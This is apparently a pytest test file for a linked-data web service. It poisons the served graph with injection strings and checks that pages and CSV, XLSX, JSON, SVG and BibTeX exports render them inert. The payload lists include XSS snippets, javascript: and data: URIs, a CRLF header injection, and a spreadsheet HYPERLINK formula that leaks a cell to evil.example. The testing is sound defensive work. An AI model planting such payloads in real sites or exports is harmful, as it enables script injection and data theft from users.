"""A graph of somebody who means ill: whatever stands in it, a page shows it and does nothing."""

import csv
import json
import re
from collections.abc import Iterator, Mapping
from html import unescape
from http.client import HTTPConnection
from io import BytesIO, StringIO
from itertools import cycle
from typing import Any
from urllib.parse import urlencode, urlsplit
from xml.etree import ElementTree as ET
from zipfile import ZipFile

import pytest
from pyoxigraph import Literal, NamedNode, Quad, RdfFormat, Store

from teixit import store as teixit_store

#: What texts begin with in place of their own beginning.
TEXTS = [
    "<script>window.pwned = 1</script>",
    '"><img src=x onerror="window.pwned = 1">',
    "'><svg onload='window.pwned = 1'>",
    "</title></textarea></svg><script>window.pwned = 1</script>",
    "javascript:window.pwned=1//",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\u202e\u2066",
    "\x01\x0b\x1b\ufffe",
    "{{ 7*7 }}{% raw %}",
    "\r\nSet-Cookie: a=b\r\n\r\n",
    "]]>&lt;&#x3c;",
]
#: What others are called in place of their own names.
NAMES = [
    "javascript:window.pwned=1",
    "JavaScript:window.pwned=1//http://",
    "data:text/html,%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "vbscript:a",
    "http://evil.example/?'onmouseover='window.pwned=1",
]
#: What readers choose in addresses, and what nobody has chosen yet.
CHOICES = ["q", "sort", "page", "rows", "year", "shade", "measure", "district", "steps", "kind"]
CHOICES += ["lang", "<script>alert(1)</script>", '"onload="', "_scheme", "_external", "endpoint"]
#: How the browser tells that the server did not take such a choice.
REFUSED = ("400: ", "404: ", "error: Failed to load resource: the server responded with a status")
FORMULA = re.compile(r"\s*[=+@\t\r]|\s*-(?![0-9.]+$)")
LINK = re.compile(r'<a href="([^"]+)"[^>]* download>')
CELL = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
PLANTED = """() => ({
  pwned: typeof window.pwned,
  handled: [...document.querySelectorAll("*")].filter(
    node => node.getAttributeNames().some(name => name.startsWith("on"))).length,
  programs: document.querySelectorAll(
    "script:not([type='application/ld+json']):not([src='/static/editor.js'])").length,
  links: [...document.querySelectorAll("a, area, form, link, image, use")].flatMap(node =>
    ["href", "xlink:href", "action"].map(name => node.getAttribute(name)).filter(
      address => address !== null
        && !/^(https?:[/][/]|[/](?![/])|#|[?]|mailto:|[a-z0-9-]+$)/.test(address))),
})"""


def poisoned() -> Iterator[Quad]:
    """The graph that is shipped, with other texts, and other names for what is elsewhere."""
    shipped = teixit_store.load()
    texts, names = cycle(TEXTS), cycle(NAMES)
    for quad in sorted(shipped, key=str):
        said = quad.object
        if isinstance(said, Literal) and said.language:
            said = Literal(f"{next(texts)} {said.value}", language=said.language)
        elif is_elsewhere(quad):
            said = NamedNode(next(names))
        yield Quad(quad.subject, quad.predicate, said, quad.graph_name)


def is_elsewhere(quad: Quad) -> bool:
    name = quad.predicate.value.lower()
    return isinstance(quad.object, NamedNode) and name.endswith(("homepage", "seealso", "page"))


@pytest.fixture(scope="module")
def hostile(serving: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of a service over such a graph."""
    file = tmp_path_factory.mktemp("hostile") / "graph.nq"
    store = Store()
    store.extend(poisoned())
    store.dump(file, format=RdfFormat.N_QUADS)
    with serving("--data", str(file)) as address:
        yield address


@pytest.fixture(scope="module")
def hostile_tab(open_tab: Any, hostile: str) -> Iterator[Any]:
    with open_tab(hostile) as opened:
        yield opened


def got(server: str, path: str) -> tuple[Mapping[str, str], bytes]:
    connection = HTTPConnection(urlsplit(server).netloc, timeout=30)
    connection.request("GET", path, headers={"Accept": "text/html,*/*;q=0.8"})
    answer = connection.getresponse()
    body = answer.read()
    connection.close()
    assert answer.status == 200, f"{path}: {answer.status}"
    return dict(answer.getheaders()), body


def test_what_is_planted_is_there(hostile_tab: Any) -> None:
    hostile_tab.visit("/ca/matrix?rows=themes")
    shown = hostile_tab.page.inner_text("main")
    assert all(text in shown for text in ("<script>window.pwned", "<img src=x", "=HYPERLINK"))


def test_nothing_that_is_planted_in_a_page_grows(hostile_tab: Any, drawn: Any) -> None:
    hostile_tab.visit(drawn.path)
    hostile_tab.page.mouse.move(300, 300)
    assert hostile_tab.wrong == []
    found = hostile_tab.look(PLANTED)
    assert found == {"pwned": "undefined", "handled": 0, "programs": 0, "links": []}


def test_nothing_that_an_address_plants_grows(tab: Any, one_of_a_kind: Any) -> None:
    choices = {name: TEXTS[number % 5] for number, name in enumerate(CHOICES)}
    path, _, query = one_of_a_kind.path.partition("?")
    tab.visit(f"{path}?{query}&{urlencode(choices)}")
    assert [wrong for wrong in tab.wrong if not wrong.startswith(REFUSED)] == []
    assert tab.look(PLANTED) == {"pwned": "undefined", "handled": 0, "programs": 0, "links": []}


def test_the_files_of_a_page_hold_texts_and_nothing_that_runs(hostile: str, drawn: Any) -> None:
    _, page = got(hostile, drawn.path)
    found = (unescape(link) for link in LINK.findall(page.decode()))
    # The answers of the endpoint and of questions are as SPARQL has them, to the letter.
    links = [link for link in found if not link.startswith(("/sparql", "/questions/"))]
    for link in links:
        headers, body = got(hostile, link)
        assert "Set-Cookie" not in headers
        form = "svg" if "/query.svg?" in link else link.rpartition("download=")[2]
        READERS[form](body)


def read_csv(body: bytes) -> None:
    rows = [*csv.reader(StringIO(body.decode("utf-8-sig"), newline=""))]
    assert len({len(row) for row in rows}) == 1
    assert [cell for row in rows for cell in row if FORMULA.match(cell)] == []


def read_xlsx(body: bytes) -> None:
    with ZipFile(BytesIO(body)) as book:
        for name in book.namelist():
            part = ET.fromstring(book.read(name))
            assert [*part.iter(f"{CELL}f")] == [*part.iter(f"{CELL}hyperlink")] == []
            assert "TargetMode" not in {key for node in part.iter() for key in node.attrib}


def read_json(body: bytes) -> None:
    found = json.loads(body)
    assert found["title"]
    assert not [value for value in addresses(found) if not re.match(r"https?://|/[^/]|$", value)]


def addresses(value: Any) -> Iterator[str]:
    """Where a view in JSON says that something can be read."""
    if isinstance(value, dict):
        if isinstance(value.get("address"), str):
            yield value["address"]
        value = [*value.values()]
    if isinstance(value, list):
        for part in value:
            yield from addresses(part)


def read_geojson(body: bytes) -> None:
    assert json.loads(body)["features"]


def read_svg(body: bytes) -> None:
    parts = [*ET.fromstring(body).iter()]
    assert {part.tag.rpartition("}")[2] for part in parts} <= DRAWN_WITH
    attributes = {name for part in parts for name in part.attrib}
    assert [name for name in attributes if name.startswith("on") or "href" in name] == []


def read_bib(body: bytes) -> None:
    text = body.decode()
    assert text.startswith("@misc{")
    assert text.count("@misc") == 1
    assert text.count("{") == text.count("}")


def read_csl(body: bytes) -> None:
    (entry,) = json.loads(body)
    assert entry["URL"].startswith("https://")


READERS = {
    "bib": read_bib,
    "csl": read_csl,
    "csv": read_csv,
    "xlsx": read_xlsx,
    "json": read_json,
    "geojson": read_geojson,
    "svg": read_svg,
}
#: What a picture of an answer is made of: nothing that runs, leads anywhere or is fetched.
DRAWN_WITH = {"svg", "title", "desc", "style", "g", "rect", "circle", "line", "path", "text"}
